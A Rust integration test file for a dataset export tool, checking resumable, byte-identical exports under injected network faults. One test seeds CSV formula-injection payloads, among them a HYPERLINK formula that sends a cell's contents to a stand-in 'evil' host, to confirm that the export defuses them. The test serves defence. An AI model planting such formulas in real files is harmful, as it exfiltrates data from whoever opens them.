//! Exports against a real sandbox on 127.0.0.1, with its fault injection on.

mod common;

use std::path::Path;

use apify_client::clients::dataset::{DatasetDownloadOptions, DownloadItemsFormat};
use apify_client::ApifyClient;
use apify_sandbox::{FaultConfig, Sandbox, SANDBOX_TOKEN};
use greenroom_core::datasets::export::{export_dataset, ExportFormat, ExportOptions};
use greenroom_core::ErrorKind;
use tokio_util::sync::CancellationToken;

/// What one uninterrupted download gives, fetched before any fault is switched on.
async fn reference(
    sandbox: &Sandbox,
    dataset: &str,
    format: DownloadItemsFormat,
    options: &ExportOptions,
) -> Vec<u8> {
    let client = ApifyClient::builder()
        .token(SANDBOX_TOKEN)
        .base_url(sandbox.base_url())
        .build();
    let mut download = DatasetDownloadOptions::default();
    download.items.fields = (!options.fields.is_empty()).then(|| options.fields.clone());
    client
        .dataset(dataset)
        .download_items(format, download)
        .await
        .unwrap()
}

fn files_in(folder: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(folder)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

async fn export_and_compare(
    sandbox: &Sandbox,
    formats: &[(ExportFormat, DownloadItemsFormat)],
    options: ExportOptions,
    faults: FaultConfig,
    must_resume: bool,
    item_count: u64,
) {
    let session = common::full_session(sandbox);
    let dataset = common::generated_dataset(&session, item_count).await;
    let mut expected = Vec::new();
    for (_, api_format) in formats {
        expected.push(reference(sandbox, &dataset, *api_format, &options).await);
    }
    sandbox.set_faults(faults);
    let folder = tempfile::tempdir().unwrap();
    for ((format, _), expected) in formats.iter().zip(expected) {
        let target = folder.path().join(format!("items.{format:?}"));
        let mut updates = 0;
        let report = export_dataset(
            &session,
            &dataset,
            *format,
            &options,
            &target,
            &CancellationToken::new(),
            |_| updates += 1,
        )
        .await
        .unwrap_or_else(|e| panic!("{format:?}: {e} ({:?})", e.detail()));
        let written = std::fs::read(&target).unwrap();
        assert!(
            written == expected,
            "{format:?}: {} bytes written, {} expected",
            written.len(),
            expected.len()
        );
        assert!(
            updates > 1,
            "{format:?}: progress was reported {updates} times"
        );
        assert_eq!(report.items, Some(item_count), "{format:?}");
        if must_resume {
            assert!(
                report.retries > 5,
                "{format:?}: resumed only {} times",
                report.retries
            );
        }
    }
    let leftovers: Vec<String> = files_in(folder.path())
        .into_iter()
        .filter(|n| n.ends_with(".partial"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// Every answer breaks after 300 kB: only resuming by item ranges can ever finish.
fn every_answer_breaks() -> FaultConfig {
    FaultConfig {
        rate_limit: 0.3,
        server_error: 0.1,
        drop_rate: 1.0,
        drop_after_bytes: 300_000,
        seed: 11,
        ..Default::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_jsonl_and_xml_resume_by_item_ranges_to_byte_identical_files() {
    let sandbox = Sandbox::start().await.unwrap();
    let formats = [
        (ExportFormat::Jsonl, DownloadItemsFormat::Jsonl),
        (ExportFormat::Json, DownloadItemsFormat::Json),
        (ExportFormat::Xml, DownloadItemsFormat::Xml),
    ];
    export_and_compare(
        &sandbox,
        &formats,
        ExportOptions::default(),
        every_answer_breaks(),
        true,
        30_000,
    )
    .await;
}

/// A CSV or an HTML table resumes by ranges when the rest of the items has the same header row:
/// here the columns are chosen, so every continuation's header matches.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_and_html_with_chosen_columns_resume_by_item_ranges() {
    let sandbox = Sandbox::start().await.unwrap();
    let options = ExportOptions {
        fields: vec!["id".into(), "title".into(), "price".into(), "seller".into()],
        ..Default::default()
    };
    export_and_compare(
        &sandbox,
        &[
            (ExportFormat::Csv, DownloadItemsFormat::Csv),
            (ExportFormat::Html, DownloadItemsFormat::Html),
        ],
        options,
        FaultConfig {
            drop_after_bytes: 100_000,
            ..every_answer_breaks()
        },
        true,
        10_000,
    )
    .await;
}

/// Where the rest of the items would not fit what is written (a CSV or a table whose remaining
/// items have other columns, so another header row), a broken download starts over.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_and_html_start_over_when_the_rest_has_other_columns_and_still_match() {
    let sandbox = Sandbox::start().await.unwrap();
    let formats = [
        (ExportFormat::Csv, DownloadItemsFormat::Csv),
        (ExportFormat::Html, DownloadItemsFormat::Html),
    ];
    let faults = FaultConfig {
        rate_limit: 0.3,
        server_error: 0.1,
        drop_rate: 0.3,
        drop_after_bytes: 500_000,
        seed: 4,
        ..Default::default()
    };
    let options = ExportOptions::default();
    export_and_compare(&sandbox, &formats, options, faults, false, 10_000).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xlsx_survives_faults_as_a_workbook_with_every_row() {
    use calamine::{Reader, Xlsx};
    let sandbox = Sandbox::start().await.unwrap();
    let session = common::full_session(&sandbox);
    let dataset = common::generated_dataset(&session, 3_000).await;
    sandbox.set_faults(FaultConfig {
        server_error: 0.2,
        drop_rate: 0.5,
        drop_after_bytes: 50_000,
        seed: 5,
        ..Default::default()
    });
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("items.xlsx");
    export_dataset(
        &session,
        &dataset,
        ExportFormat::Xlsx,
        &ExportOptions::default(),
        &target,
        &CancellationToken::new(),
        |_| {},
    )
    .await
    .unwrap();
    let mut workbook: Xlsx<_> = calamine::open_workbook(&target).unwrap();
    let sheet = workbook.worksheet_range_at(0).unwrap().unwrap();
    assert_eq!(sheet.rows().count(), 3_001);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn options_and_ranges_reach_the_api() {
    let sandbox = Sandbox::start().await.unwrap();
    let session = common::full_session(&sandbox);
    let dataset = common::generated_dataset(&session, 100).await;
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("slice.csv");
    let options = ExportOptions {
        fields: vec!["id".into(), "title".into()],
        offset: 10,
        limit: Some(3),
        bom: Some(false),
        delimiter: Some(";".into()),
        desc: true,
        ..Default::default()
    };
    let report = export_dataset(
        &session,
        &dataset,
        ExportFormat::Csv,
        &options,
        &target,
        &CancellationToken::new(),
        |_| {},
    )
    .await
    .unwrap();
    let text = std::fs::read_to_string(&target).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "id;title");
    assert!(lines[1].starts_with("90;"), "{text}");
    assert_eq!(lines.len(), 4);
    assert_eq!(report.items, Some(3));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cancelled_export_leaves_no_file_behind() {
    let sandbox = Sandbox::start().await.unwrap();
    let session = common::full_session(&sandbox);
    let dataset = common::generated_dataset(&session, 20_000).await;
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("cancelled.json");
    let cancel = CancellationToken::new();
    let trigger = cancel.clone();
    let error = export_dataset(
        &session,
        &dataset,
        ExportFormat::Json,
        &ExportOptions::default(),
        &target,
        &cancel,
        move |progress| {
            if progress.bytes > 0 {
                trigger.cancel();
            }
        },
    )
    .await
    .unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Cancelled);
    assert_eq!(files_in(folder.path()), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_disk_is_reported_as_such_and_leaves_nothing() {
    let folder = tempfile::tempdir().unwrap();
    if !common::mount_small_tmpfs(folder.path(), "256k") {
        return;
    }
    let sandbox = Sandbox::start().await.unwrap();
    let session = common::full_session(&sandbox);
    let dataset = common::generated_dataset(&session, 5_000).await;
    let target = folder.path().join("too-big.jsonl");
    let error = export_dataset(
        &session,
        &dataset,
        ExportFormat::Jsonl,
        &ExportOptions::default(),
        &target,
        &CancellationToken::new(),
        |_| {},
    )
    .await
    .unwrap_err();
    let leftovers = files_in(folder.path());
    common::unmount(folder.path());
    assert_eq!(
        error.kind(),
        ErrorKind::DiskFull,
        "{error}: {:?}",
        error.detail()
    );
    assert_eq!(leftovers, Vec::<String>::new());
}

/// The dataset is deleted while the export runs: every answer breaks after 300 kB, so the next
/// range is asked for and answered 404. The export says the dataset is gone, and an existing
/// file at the target stays as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dataset_deleted_during_an_export_is_reported_and_the_old_file_stays() {
    let sandbox = Sandbox::start().await.unwrap();
    let session = common::full_session(&sandbox);
    let dataset = common::generated_dataset(&session, 20_000).await;
    sandbox.set_faults(FaultConfig {
        drop_rate: 1.0,
        drop_after_bytes: 300_000,
        seed: 3,
        ..Default::default()
    });
    let folder = tempfile::tempdir().unwrap();
    let target = folder.path().join("items.jsonl");
    std::fs::write(&target, b"the export of last week\n").unwrap();
    let deleter = ApifyClient::builder()
        .token(SANDBOX_TOKEN)
        .base_url(sandbox.base_url())
        .build();
    let deleted = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let once = deleted.clone();
    let id = dataset.clone();
    let error = export_dataset(
        &session,
        &dataset,
        ExportFormat::Jsonl,
        &ExportOptions::default(),
        &target,
        &CancellationToken::new(),
        move |progress| {
            if progress.bytes > 0 && !once.swap(true, std::sync::atomic::Ordering::SeqCst) {
                let deleter = deleter.clone();
                let id = id.clone();
                // Deleted at once, before the first answer breaks.
                std::thread::spawn(move || {
                    tokio::runtime::Runtime::new()
                        .unwrap()
                        .block_on(deleter.dataset(&id).delete())
                })
                .join()
                .unwrap()
                .unwrap();
            }
        },
    )
    .await
    .unwrap_err();
    assert!(deleted.load(std::sync::atomic::Ordering::SeqCst));
    assert_eq!(error.kind(), ErrorKind::NotFound, "{error}");
    assert_eq!(files_in(folder.path()), ["items.jsonl"]);
    assert_eq!(
        std::fs::read(&target).unwrap(),
        b"the export of last week\n"
    );
}

/// A Store Actor's cells that a spreadsheet would run: the protected CSV export defuses each,
/// through dropped connections too, and with the protection off the file is the API's, byte
/// for byte.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_csv_export_defuses_spreadsheet_formulas_unless_asked_not_to() {
    use greenroom_core::datasets::formulas::CsvDefuser;
    let sandbox = Sandbox::start().await.unwrap();
    let client = ApifyClient::builder()
        .token(SANDBOX_TOKEN)
        .base_url(sandbox.base_url())
        .build();
    let dataset = client
        .datasets()
        .get_or_create(Some("hostile"))
        .await
        .unwrap()
        .id;
    let items: Vec<serde_json::Value> = (0..4000)
        .map(|n| {
            serde_json::json!({
                "n": n,
                "link": format!("=HYPERLINK(\"https://evil/?{n}\"&B2,\"Open\")"),
                "call": "@SUM(A1)",
                "sign": if n % 2 == 0 { "-2+3" } else { "-3.5" },
                "note": format!("\t=1\nline, with a comma {n}"),
                "price": -(n as f64) / 4.0,
            })
        })
        .collect();
    for chunk in items.chunks(1000) {
        client
            .dataset(&dataset)
            .push_items(&chunk.to_vec())
            .await
            .unwrap();
    }
    let session = common::full_session(&sandbox);
    // Chosen columns keep every continuation's header row the same, so resuming can work.
    let fields: Vec<String> = ["n", "link", "call", "sign", "note", "price"]
        .map(String::from)
        .into();
    let plain = ExportOptions {
        fields: fields.clone(),
        protect_formulas: false,
        ..Default::default()
    };
    let api = reference(&sandbox, &dataset, DownloadItemsFormat::Csv, &plain).await;
    let mut expected = Vec::new();
    let mut defuser = CsvDefuser::new(b',');
    defuser.push(&api, &mut expected);
    defuser.finish(&mut expected);
    assert_ne!(expected, api, "the data has formulas to defuse");

    let folder = tempfile::tempdir().unwrap();
    let export = |options: ExportOptions, name: &'static str| {
        let session = session.clone();
        let dataset = dataset.clone();
        let target = folder.path().join(name);
        async move {
            export_dataset(
                &session,
                &dataset,
                ExportFormat::Csv,
                &options,
                &target,
                &CancellationToken::new(),
                |_| {},
            )
            .await
            .unwrap();
            std::fs::read(&target).unwrap()
        }
    };
    assert!(
        export(plain.clone(), "plain.csv").await == api,
        "off: the API's file"
    );
    sandbox.set_faults(every_answer_breaks());
    let protected = ExportOptions {
        protect_formulas: true,
        ..plain
    };
    let written = export(protected, "protected.csv").await;
    assert!(
        written == expected,
        "{} bytes, {} expected",
        written.len(),
        expected.len()
    );
    let text = String::from_utf8(written).unwrap();
    assert!(text.contains("\"'=HYPERLINK(\"\"https://evil/?7\"\"&B2,\"\"Open\"\")\""));
    assert!(text.contains(",'@SUM(A1),") || text.contains(",\"'@SUM(A1)\","));
    assert!(text.contains("-3.5"), "numbers stay numbers");
    assert!(!text.contains(",=") && !text.contains(",\"=") && !text.contains(",@"));
}
